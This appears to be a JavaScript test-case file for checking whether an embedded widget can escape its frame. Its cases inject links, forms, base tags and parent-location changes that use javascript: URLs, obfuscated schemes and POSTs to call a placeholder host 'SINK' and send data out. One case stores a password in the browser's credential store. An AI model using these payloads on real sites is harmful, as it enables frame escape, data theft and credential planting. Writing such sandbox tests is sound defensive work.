// 27: addresses that a widget hands to the page around it, in links and in forms. 14 asks the browser's own store of passwords.
const OUT = "fetch('http://SINK/x',{mode:'no-cors'})";
const go = (id, name, html, how = "click") => ({
  id: `27.${id}`, name, top: true,
  js: `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(html)}); const e = document.body.lastElementChild;
    try { ${how === "click" ? "e.click()" : `e.requestSubmit(e.querySelector("button"))`}; } catch (error) { void error; } ran();`,
});
const submit = (id, name, html) => go(id, name, html, "submit");

export default [
  go("link.script.top", "javascript: in a link into the whole window", `<a href="javascript:void ${OUT}" target="_top">x</a>`),
  go("link.script.parent", "javascript: in a link into the parent", `<a href="javascript:void ${OUT}" target="_parent">x</a>`),
  go("link.script.page", "javascript: that is a page, into the whole window", `<a href="javascript:'<img src=http://SINK/x.png>'" target="_top">x</a>`),
  submit("form.script.top", "javascript: in a form into the whole window", `<form action="javascript:void ${OUT}" target="_top"><button></button></form>`),
  submit("form.formaction.top", "formaction and formtarget of a button", `<form action="index.html"><button formaction="http://SINK/x" formtarget="_top"></button></form>`),
  submit("form.post.parent", "form, POST, into the parent over TLS", `<form method="post" action="https://SINK/x" target="_parent"><input name="q" value="secret"><button></button></form>`),
  go("link.slashes", "a link without a scheme into the whole window", `<a href="//SINK/x" target="_top">x</a>`),
  go("link.backslash", "a link with a backslash", `<a href="/\\SINK/x" target="_top">x</a>`),
  go("link.control-characters", "a scheme with a line break in it", `<a href="java\nscript:void ${OUT}" target="_top">x</a>`),
  go("link.area", "an area of a map into the parent", `<area href="http://SINK/x" target="_parent">`),
  { id: "27.base.top", name: "base with a target for every link", top: true, js: `document.head.insertAdjacentHTML("beforeend", '<base href="http://SINK/" target="_top">'); document.body.insertAdjacentHTML("beforeend", '<a href="x">x</a>'); document.body.lastElementChild.click(); ran();` },
  { id: "27.parent.script", name: "javascript: as the parent's address", top: true, js: `try { parent.location.href = "javascript:void ${OUT}"; } catch (e) { void e; } ran();` },

  { id: "14.password", name: "keeping a password in the browser under the widget's name", stolen: true, top: true, alone: true, js: `
    const kept = await Promise.race([navigator.credentials.store(new PasswordCredential({ id: "mia", password: "secret", iconURL: location.origin + "/x.png" })).then(() => "kept", (e) => e.name), later(3000).then(() => "nothing")]);
    stolen(kept === "kept", kept);` },
];
